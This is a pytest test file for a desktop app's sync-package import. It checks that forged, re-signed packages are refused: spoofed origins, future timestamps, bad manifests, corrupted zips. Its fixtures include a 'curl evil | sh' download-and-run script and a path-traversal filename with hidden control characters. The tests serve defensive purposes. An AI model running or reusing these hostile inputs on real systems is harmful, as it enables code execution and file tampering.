"""Packages from a trusted site are still checked (issue 14, findings 1-5): the attacker
holds 33.22's real key, so every forged package here is re-signed and passes the
signature check. Each refusal leaves the database row for row as it was. The tests on
`any_sites` run twice: the province on SQLite and in server mode (PostgreSQL)."""

from __future__ import annotations

import hashlib
import json
import shutil
import time
import uuid
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import delete, select

from posko_desktop.cli import main
from posko_desktop.core import settings
from posko_desktop.core.context import AppContext, local_site
from posko_desktop.core.db.models import Attachment
from posko_desktop.core.db.models_sync import SyncKey
from posko_desktop.core.db.session import open_database
from posko_desktop.core.domain import Actor
from posko_desktop.core.services import accounts, site_key
from posko_desktop.core.services import incidents as inc
from posko_desktop.core.services import sync as svc

from .conftest import ADMIN_PASSWORD, PNG, add_incident, refused, send, table_dump, trust_all
from .forge import jsonl, lines, resign

DATA = Path(__file__).resolve().parents[1] / "data"


def _edit(kind: str, change):
    def members(m):
        rows = lines(m["records/" + kind + ".jsonl"])
        for r in rows:
            change(r)
        m["records/" + kind + ".jsonl"] = jsonl(rows)
    return members


def _stamp(millis: int, site: str = "33.22", counter: int = 0) -> str:
    return "{m:013d}-{c:05d}-{s}".format(m=millis, c=counter, s=site)


# --- 1. future stamps ---------------------------------------------------------------------


def _all_stamps(value: str):
    def change(r):
        r["field_stamps"] = dict.fromkeys(r["field_stamps"], value)
        r["mod_stamp"] = value
    return change


def test_a_stamp_from_the_year_2286_is_refused_and_the_clock_stays(any_sites, any_package,
                                                                   tmp_path):
    prov, kab, _kota = any_sites
    with prov.ctx.db.read() as s:
        clock = local_site(s).last_stamp
    path = resign(any_package, tmp_path / "2286.posko", kab.key,
                  members=_edit("incidents", _all_stamps("9999999999999-99999-33.22")))
    err = refused(prov, path)
    assert "9999999999999-99999-33.22" in err.text_in("en")
    with prov.ctx.db.read() as s:
        assert local_site(s).last_stamp == clock


def test_the_tolerance_is_a_setting(sites, package, tmp_path):
    prov, kab, _kota = sites
    ahead = _stamp(int(time.time() * 1000) + 30 * 3_600_000)  # 30 h ahead
    path = resign(package, tmp_path / "ahead.posko", kab.key,
                  members=_edit("followups", lambda r: r.update(mod_stamp=ahead)))
    assert "too far ahead" in refused(prov, path).text_in("en")
    with prov.ctx.db.write() as s:
        settings.put(s, settings.SYNC_CLOCK_AHEAD_HOURS, 48, "admin", prov.ctx.now())
    r = svc.import_package(prov.ctx, path)
    assert r.totals().new == 2
    with prov.ctx.db.read() as s:
        assert local_site(s).last_stamp == ahead  # within 48 h: the clock follows


# --- 2. origin spoofing -----------------------------------------------------------------


def test_records_claiming_the_receivers_origin_are_refused(any_sites, any_package, tmp_path):
    prov, kab, _kota = any_sites
    path = resign(any_package, tmp_path / "spoof.posko", kab.key,
                  members=_edit("incidents", lambda r: r.update(origin_site="33")))
    assert "originate at this site" in refused(prov, path).text_in("en")


def test_a_change_in_the_receivers_name_is_refused(sites, package, tmp_path):
    """A held incident whose title stamp names the province (33), newer than the
    province's own: the province never made that edit."""
    prov, kab, _kota = sites
    svc.import_package(prov.ctx, package)
    again = send(kab, prov, tmp_path)
    soon = _stamp(int(time.time() * 1000) + 60_000, "33")

    def forged(r):
        r["title"] = "Ditulis atas nama provinsi"
        r["field_stamps"]["title"] = soon
        r["mod_stamp"] = soon

    path = resign(again, tmp_path / "in-your-name.posko", kab.key, members=_edit(
        "incidents", forged), manifest=lambda d: d.update(sequence=d["sequence"] + 1))
    assert "never made" in refused(prov, path).text_in("en")


def test_records_of_another_site_need_its_signed_manifest(sites, package, tmp_path):
    prov, kab, _kota = sites
    path = resign(package, tmp_path / "other.posko", kab.key,
                  members=_edit("incidents", lambda r: r.update(origin_site="33.74")))
    assert "relayed data" in refused(prov, path).text_in("en")
    via_own = resign(package, tmp_path / "other-via.posko", kab.key, members=_edit(
        "incidents", lambda r: r.update(origin_site="33.74", via_package=str(uuid.uuid4()))))
    assert "relayed data" in refused(prov, via_own).text_in("en")


def test_relayed_records_with_the_origins_manifest_are_accepted(sites, tmp_path):
    """The province relays 33.74's incident to 33.22, which does not trust 33.74's key:
    the relayed manifest is checked against the key it names."""
    prov, kab, kota = sites
    with kab.ctx.db.write() as s:  # 33.22 never trusted 33.74 (only the province)
        s.execute(delete(SyncKey).where(SyncKey.site_code == "33.74"))
    add_incident(kota, regency_code="33.74", title="Dari kota")
    svc.import_package(prov.ctx, send(kota, prov, tmp_path))
    relay = send(prov, kab, tmp_path)
    assert svc.import_package(kab.ctx, relay).relayed_from == ["33.74"]
    assert [i["title"] for i in svc.canonical_dump(kab.ctx)["incidents"]] == ["Dari kota"]


def test_a_forged_relayed_manifest_is_refused(sites, tmp_path):
    prov, kab, kota = sites
    add_incident(kota, regency_code="33.74", title="Dari kota")
    svc.import_package(prov.ctx, send(kota, prov, tmp_path))
    relay = send(prov, kab, tmp_path)

    def forge(m):
        name = next(n for n in m if n.startswith("provenance/"))
        doc = json.loads(m[name])
        doc["manifest"] = doc["manifest"].replace('"Kota Semarang"', '"Kota Palsu"')
        m[name] = json.dumps(doc).encode()

    path = resign(relay, tmp_path / "forged-relay.posko", prov.key, members=forge)
    assert "not signed by site 33.74" in refused(kab, path).text_in("en")


# --- 3. attachments ---------------------------------------------------------------------


def test_attachment_names_are_made_safe_on_import(sites, package, tmp_path):
    prov, kab, _kota = sites
    path = resign(package, tmp_path / "names.posko", kab.key, members=_edit(
        "attachments", lambda r: r.update(filename="../../../\u202egnp.sh\x1b[31m")))
    svc.import_package(prov.ctx, path)
    with prov.ctx.db.read() as s:
        assert list(s.scalars(select(Attachment.filename))) == ["gnp.sh[31m"]


def test_content_that_is_not_an_image_is_refused(sites, package, tmp_path):
    prov, kab, _kota = sites
    script = b"#!/bin/sh\ncurl evil | sh\n"
    sha = hashlib.sha256(script).hexdigest()

    def swap(m):
        old = next(n for n in m if n.startswith("blobs/"))
        del m[old]
        m["blobs/" + sha] = script
        _edit("attachments", lambda r: r.update(sha256=sha, size=len(script)))(m)

    path = resign(package, tmp_path / "script.posko", kab.key, members=swap)
    assert "not an image" in refused(prov, path).text_in("en")
    wrong_type = resign(package, tmp_path / "jpeg.posko", kab.key,
                        members=_edit("attachments", lambda r: r.update(mime="image/jpeg")))
    assert "not as declared" in refused(prov, wrong_type).text_in("en")


# --- 4. manifest facts --------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["incidents", "tombstones", "followups", "attachments"])
def test_every_count_is_checked(sites, package, tmp_path, kind):
    prov, kab, _kota = sites
    path = resign(package, tmp_path / "count.posko", kab.key,
                  manifest=lambda d: d["counts"].update({kind: 0 if kind != "tombstones"
                                                         else 2}))
    assert "the manifest's counts." in refused(prov, path).text_in("en")


@pytest.mark.parametrize("member", ["followups", "tombstones", "attachments", "incidents"])
def test_every_record_file_is_required_even_empty(sites, package, tmp_path, member):
    prov, kab, _kota = sites
    path = resign(package, tmp_path / "gone.posko", kab.key,
                  members=lambda m: m.pop("records/" + member + ".jsonl"))
    assert "the format requires it" in refused(prov, path).text_in("en")


def test_an_ack_of_a_package_never_sent_is_refused(any_sites, any_package, tmp_path):
    prov, kab, _kota = any_sites
    path = resign(any_package, tmp_path / "ack.posko", kab.key,
                  manifest=lambda d: d.update(acks={"33": 7}))
    assert "never sent" in refused(prov, path).text_in("en")


@pytest.mark.parametrize("field, value", [
    ("acks", {"33": 10**12}), ("acks", {"33": 2**31}), ("sequence", 2**31),
    ("audit_anchor", {"entry_id": 2**31, "hash": "ab" * 32, "at": None})])
def test_package_numbers_beyond_what_the_server_stores_are_refused(any_sites, any_package,
                                                                   tmp_path, field, value):
    """Package numbers (a sequence, an ack) and audit entry numbers above 2^31 - 1, the
    INTEGER of PostgreSQL, are
    refused by the manifest's schema on every backend; in server mode they ended in a
    database error ("integer out of range")."""
    prov, kab, _kota = any_sites
    path = resign(any_package, tmp_path / "numbers.posko", kab.key,
                  manifest=lambda d: d.update({field: value}))
    err = refused(prov, path).text_in("en")
    assert "the manifest is not valid ({f}".format(f=field) in err


def test_unreferenced_blobs_are_refused(any_sites, any_package, tmp_path):
    prov, kab, _kota = any_sites
    extra = [PNG + n.to_bytes(2, "big") for n in range(300)]

    def add(m):
        for data in extra:
            m["blobs/" + hashlib.sha256(data).hexdigest()] = data

    path = resign(any_package, tmp_path / "blobs.posko", kab.key, members=add,
                  manifest=lambda d: d["counts"].update(blobs=301))
    assert "belongs to no attachment" in refused(prov, path).text_in("en")


# --- 5. a refusal, never an unexpected error ------------------------------------------------


def _flip_compressed(src: Path, out: Path, member: str) -> Path:
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(member)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0x55
    out.write_bytes(bytes(data))
    return out


def _rename_in_header(src: Path, out: Path, member: str) -> Path:
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(member)
    data[info.header_offset + 30 + 3] ^= 0x01  # the local header's name, not the directory's
    out.write_bytes(bytes(data))
    return out


def _point_header(src: Path, out: Path, member: str, offset: int) -> Path:
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        pos = zf.start_dir
    while data[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = (int.from_bytes(data[pos + i:pos + i + 2], "little") for i in (28, 30, 32))
        if data[pos + 46:pos + 46 + n].decode() == member:
            data[pos + 42:pos + 46] = offset.to_bytes(4, "little")
        pos += 46 + n + m + k
    out.write_bytes(bytes(data))
    return out


def _cli_import(site, path: Path, capsys) -> tuple[int, str]:
    site.ctx.db.dispose()
    code = main(["--db", str(site.path), "--lang", "en", "--user", site.ctx.actor.username,
                 "import", str(path)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("how", ["deflate", "header name", "magic", "truncated header",
                                 "sequence 2^70"])
def test_damage_is_a_refusal_with_exit_code_2(any_sites, any_package, tmp_path, capsys,
                                              monkeypatch, how):
    prov, kab, _kota = any_sites
    package = any_package
    out = tmp_path / "damaged.posko"
    if how == "deflate":
        _flip_compressed(package, out, "records/followups.jsonl")
    elif how == "header name":
        _rename_in_header(package, out, "records/tombstones.jsonl")
    elif how == "magic":
        data = bytearray(package.read_bytes())
        with zipfile.ZipFile(package) as zf:
            offset = zf.getinfo("records/followups.jsonl").header_offset
        data[offset:offset + 4] = b"XXXX"
        out.write_bytes(bytes(data))
    elif how == "truncated header":  # the directory points at the file's last bytes
        _point_header(package, out, "records/followups.jsonl", package.stat().st_size - 10)
    else:
        resign(package, out, kab.key, manifest=lambda d: d.update(sequence=2**70))
    monkeypatch.setenv("POSKO_PASSWORD", ADMIN_PASSWORD)
    before = table_dump(prov, with_login=False)  # the command's own login left out
    code, err = _cli_import(prov, out, capsys)
    assert code == 2, err
    assert "damaged.posko" in err and "Unexpected" not in err
    assert table_dump(prov, with_login=False) == before


# --- the 0001-era database ----------------------------------------------------------------


def test_an_upgraded_0001_database_syncs_everything_it_holds(sites, tmp_path):
    """Incidents written at schema 0001 name only some fields in their stamps; the
    province refused them ("field_stamps: missing regency_code")."""
    prov = sites[0]
    path = tmp_path / "posko-0001.sqlite3"
    shutil.copy(DATA / "posko-0001.sqlite3", path)
    db = open_database(path)
    try:
        setup = AppContext(db, Actor("admin-33.74", "admin", "Admin"))
        admin = accounts.create_first_admin(setup, "admin-33.74", ADMIN_PASSWORD, "Admin")
        ctx = setup.as_actor(admin.actor)
        site_key.create_new(ctx)  # the office's key file is not part of the test data
        old = _OldSite(ctx, tmp_path)
        svc.export_public_key(ctx, old.keys_dir, old.key_file)
        trust_all([prov, old])
        r = svc.import_package(prov.ctx, send(old, prov, tmp_path, full=True))
        assert r.totals().new == 3 and r.followups_new == 2 and r.attachments_new == 1
        back = send(prov, old, tmp_path)
        assert svc.import_package(ctx, back).totals().unchanged == 3
        # an edit there of such an incident reaches the province as an update
        inc.update_incident(ctx, uuid.UUID("01934a5e-7c00-7000-8000-000000000001"),
                            {"title": "Judul diperbaiki"})
        r = svc.import_package(prov.ctx, send(old, prov, tmp_path))
        assert (r.totals().updated, r.totals().unchanged) == (1, 0)
    finally:
        db.dispose()


class _OldSite:
    """The upgraded 0001 database as a site of conftest's helpers (33.74)."""

    code = "33.74"

    def __init__(self, ctx: AppContext, folder: Path) -> None:
        self.ctx = ctx
        self.keys_dir = folder / "old-keys"
        self.key_file = folder / "old.poskokey"
